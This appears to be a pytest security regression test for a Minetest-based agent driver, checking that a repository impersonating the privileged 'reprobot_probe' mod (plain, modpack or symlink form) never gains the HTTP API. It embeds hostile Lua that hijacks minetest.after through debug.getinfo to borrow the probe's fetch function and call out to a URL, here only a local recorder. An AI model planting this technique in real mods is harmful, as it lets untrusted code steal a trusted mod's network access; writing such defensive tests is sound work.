"""Issue 28, finding 1: a game repository cannot take over the probe mod, the one mod with the HTTP API.

The real `minetestserver` and client (under one shared Xvfb) load a repository that names itself
`reprobot_probe` as a plain mod, as a modpack holding a mod of that name (the reported attack) and through a
symlink to such a modpack. Its Lua asks for the HTTP API, and also reaches for the probe's own through the
stack (Minetest 5.6 lets a mod read its callers with debug.getinfo: builtin's http.fetch calls minetest.after),
aiming both at a 127.0.0.1 server this test runs. The repo's mod must load as itself and get nil, no request
may arrive (the game runs in a sandbox with loopback only), and the probe must still report.
"""

from __future__ import annotations

import asyncio
import http.server
import os
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import ClassVar

import pytest

from agents.game.driver import GameDriverError
from agents.game.minetest import MinetestDriver, missing_tools
from tests.test_game_minetest import display  # noqa: F401 - the module's shared Xvfb fixture

pytestmark = pytest.mark.skipif(
    bool(missing_tools()),
    reason=f"needs Minetest, Xvfb and xdotool (missing {', '.join(missing_tools())}: .ci/system-packages test)",
)

#: The repository's Lua: it notes what it got in the world folder (mods may write there) and calls home.
HOSTILE_LUA = """
local me = minetest.get_current_modname()
local function note(text)
	local f = io.open(minetest.get_worldpath() .. "/hostile.txt", "a")
	f:write(me .. " " .. text .. "\\n")
	f:close()
end
local http = minetest.request_http_api()
note("request_http_api=" .. (http and "granted" or "nil"))
if http then
	http.fetch({url = "URL/granted", timeout = 3}, function(res) note("granted fetch code=" .. res.code) end)
end
local after, tries = minetest.after, 0
minetest.after = function(delay, fn, ...)
	local caller = debug.getinfo(2, "fS")
	if tries < 3 and caller and caller.func and tostring(caller.short_src):find("misc.lua") then
		tries = tries + 1
		pcall(caller.func, {url = "URL/stolen", timeout = 3}, function(res) note("stolen fetch code=" .. res.code) end)
	end
	return after(delay, fn, ...)
end
"""


class _Recorder(http.server.BaseHTTPRequestHandler):
    """Answers everything with 200 and keeps the paths asked for."""

    seen: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        self.seen.append(self.path)
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"[]")

    do_POST = do_GET

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def listener() -> Iterator[tuple[str, list[str]]]:
    """A 127.0.0.1 HTTP server on the host: (its URL, the paths it was asked for)."""
    seen: ClassVar[list[str]] = []
    handler = type("Recorder", (_Recorder,), {"seen": seen})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}", seen
    server.shutdown()
    server.server_close()


def _mod(folder: Path, url: str, name: str = "reprobot_probe") -> None:
    folder.mkdir(parents=True)
    (folder / "mod.conf").write_text(f"name = {name}\n")
    (folder / "init.lua").write_text(HOSTILE_LUA.replace("URL", url))


def hostile_repo(kind: str, root: Path, url: str) -> Path:
    """A repository that names itself reprobot_probe, shaped as `kind`."""
    repo = root / "hostile"
    if kind == "plain":  # one mod whose mod.conf takes the probe's name
        _mod(repo, url)
    elif kind == "modpack":  # the reported attack: a mod.conf named like the probe, over a modpack holding it
        _mod(repo, url)
        (repo / "modpack.conf").write_text("name = reprobot_probe\n")
        _mod(repo / "reprobot_probe", url)
    else:  # a symlink named like the probe, to a modpack inside the repository holding a mod of that name
        repo.mkdir()
        (repo / "modpack.conf").write_text("name = pack\n")
        _mod(repo / "hidden" / "pack", url)
        (repo / "hidden" / "pack" / "modpack.conf").write_text("name = reprobot_probe\n")
        _mod(repo / "hidden" / "pack" / "reprobot_probe", url)
        os.symlink("hidden/pack", repo / "reprobot_probe")
    return repo


@pytest.mark.parametrize("kind", ["plain", "modpack", "symlink"])
async def test_a_repo_named_reprobot_probe_never_gets_the_http_api_and_the_probe_still_reports(
    kind: str,
    display: str,  # noqa: F811 - the fixture imported above
    listener: tuple[str, list[str]],
    tmp_path: Path,
) -> None:
    url, seen = listener
    repo = hostile_repo(kind, tmp_path, url)
    work = tmp_path / "work"
    driver = MinetestDriver(repo, work_dir=work, display=display)
    state, knowledge, error = None, {}, None
    try:
        await driver.start()
        state = await driver.state()
        knowledge = await driver.knowledge()
        await asyncio.sleep(4)  # the probe polls ten times a second: the stolen fetch has had its chances
    except GameDriverError as exc:
        error = exc  # the checks below say first what the repository's Lua did meanwhile
    finally:
        await driver.stop()
    assert seen == [], f"the repository's Lua reached the host: {seen}"
    notes = next(work.rglob("hostile.txt"), None)
    lines = notes.read_text().splitlines() if notes is not None else []
    print(f"figures hostile {kind}: {lines}")
    asked = [line for line in lines if "request_http_api=" in line]
    assert asked and all(line == "reprobot_probe request_http_api=nil" for line in asked), lines
    assert all(line.endswith("code=0") for line in lines if "fetch" in line), lines  # nothing answered
    assert error is None and state is not None and knowledge.get("version"), f"the probe did not report: {error}"
    assert driver.probe.startswith("reprobot_probe_") and driver.probe not in driver.mods
